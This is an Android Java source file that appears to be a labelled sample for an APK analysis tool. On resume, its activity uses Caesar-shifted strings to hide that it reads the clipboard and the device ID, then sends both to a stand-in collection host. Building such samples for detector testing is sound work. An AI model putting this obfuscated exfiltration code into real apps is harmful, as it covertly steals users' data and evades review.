package org.apkvet.samples.hidden.caesarendless;

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            Object service = getSystemService(D.d("\342\353\350\357\341\356\340\361\343", 127));
            Object clip = Class.forName(D.d("\340\355\343\361\356\350\343\255\342\356\355\363\344\355\363\255\302\353\350\357\341\356\340\361\343\314\340\355\340\346\344\361", 127)).getMethod(D.d("\346\344\363\317\361\350\354\340\361\370\302\353\350\357", 127)).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), D.d("\340\355\343\361\356\350\343\336\350\343", 127));
            URLConnection connection = new URL(D.d("\347\363\363\357\362\271\256\256\342\356\353\353\344\342\363\255\347\350\343\343\344\355\255\344\367\340\354\357\353\344\256\342\353\350\357", 127)).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        } catch (Exception e) {
            finish();
        }
    }
}
